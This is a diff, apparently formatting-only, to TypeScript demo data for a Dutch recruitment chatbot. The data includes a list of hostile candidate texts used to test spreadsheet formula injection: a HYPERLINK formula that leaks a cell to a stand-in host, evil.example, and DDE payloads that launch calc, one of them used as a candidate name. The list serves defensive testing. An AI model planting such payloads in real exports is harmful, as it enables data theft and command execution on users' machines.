@@ -180,10 +180,34 @@ export const demoTeams = [
 ] as const
 
 export const demoStateGroupTemplates = [
-  { id: 'sgt-sollicitatie', name: 'Sollicitatie', description: 'Vraagt naam, e-mail en cv op.', icon: 'file-cv', isBetaTemplate: false },
-  { id: 'sgt-beschikbaarheid', name: 'Beschikbaarheid', description: 'Vraagt per dag naar beschikbaarheid.', icon: 'calendar', isBetaTemplate: false },
-  { id: 'sgt-contact', name: 'Contactgegevens', description: 'Telefoonnummer en woonplaats.', icon: 'address-book', isBetaTemplate: false },
-  { id: 'sgt-matching', name: 'Vacaturematch (bèta)', description: 'Stelt vacatures voor op basis van antwoorden.', icon: 'sparkles', isBetaTemplate: true },
+  {
+    id: 'sgt-sollicitatie',
+    name: 'Sollicitatie',
+    description: 'Vraagt naam, e-mail en cv op.',
+    icon: 'file-cv',
+    isBetaTemplate: false,
+  },
+  {
+    id: 'sgt-beschikbaarheid',
+    name: 'Beschikbaarheid',
+    description: 'Vraagt per dag naar beschikbaarheid.',
+    icon: 'calendar',
+    isBetaTemplate: false,
+  },
+  {
+    id: 'sgt-contact',
+    name: 'Contactgegevens',
+    description: 'Telefoonnummer en woonplaats.',
+    icon: 'address-book',
+    isBetaTemplate: false,
+  },
+  {
+    id: 'sgt-matching',
+    name: 'Vacaturematch (bèta)',
+    description: 'Stelt vacatures voor op basis van antwoorden.',
+    icon: 'sparkles',
+    isBetaTemplate: true,
+  },
 ] as const
 
 const longMessage = (() => {
@@ -195,8 +219,8 @@ const longMessage = (() => {
 export const hostileCandidateTexts = [
   '=HYPERLINK("http://evil.example/?leak="&A1,"Klik hier")',
   '+31 6 12345678',
-  '-2+3+cmd|\' /C calc\'!A0',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '\t=1+1',
   '＝1+1 (volledige breedte)',
   '"Hallo", zei ze, "ik wil graag solliciteren, toch?"',
@@ -208,8 +232,13 @@ export const hostileCandidateTexts = [
 ] as const
 
 export const demoCandidates = [
-  { clientId: 'client-0001', name: '=cmd|\'/C calc\'!A0', phone: '+31611110001', teamName: 'Team Noord' },
-  { clientId: 'client-0002', name: 'Fatima "Fatma" el-Idrissi', phone: '+31611110002', teamName: 'Team Noord' },
+  { clientId: 'client-0001', name: "=cmd|'/C calc'!A0", phone: '+31611110001', teamName: 'Team Noord' },
+  {
+    clientId: 'client-0002',
+    name: 'Fatima "Fatma" el-Idrissi',
+    phone: '+31611110002',
+    teamName: 'Team Noord',
+  },
   { clientId: 'client-0003', name: 'Jan, de Vries', phone: '+31611110003', teamName: 'Team Zuid' },
   { clientId: 'client-0004', name: 'يوسف العلمي', phone: '+31611110004', teamName: 'Team Zuid' },
   { clientId: 'client-0005', name: '@Bram 🚀', phone: '+31611110005', teamName: 'Team Noord' },
@@ -222,14 +251,26 @@ export const demoRealtime = {
       title: 'Documentatie',
       sections: [
         { id: 'builder', title: 'De builder', body: 'Bouw gesprekken met flows, vraaggroepen en vragen.' },
-        { id: 'inbox', title: 'Smart Inbox', body: 'Neem gesprekken over van de chatbot en antwoord kandidaten zelf.' },
+        {
+          id: 'inbox',
+          title: 'Smart Inbox',
+          body: 'Neem gesprekken over van de chatbot en antwoord kandidaten zelf.',
+        },
       ],
     },
     en: {
       title: 'Documentation',
       sections: [
-        { id: 'builder', title: 'The builder', body: 'Build conversations with flows, question groups and questions.' },
-        { id: 'inbox', title: 'Smart Inbox', body: 'Take over conversations from the chatbot and answer candidates yourself.' },
+        {
+          id: 'builder',
+          title: 'The builder',
+          body: 'Build conversations with flows, question groups and questions.',
+        },
+        {
+          id: 'inbox',
+          title: 'Smart Inbox',
+          body: 'Take over conversations from the chatbot and answer candidates yourself.',
+        },
       ],
     },
   },
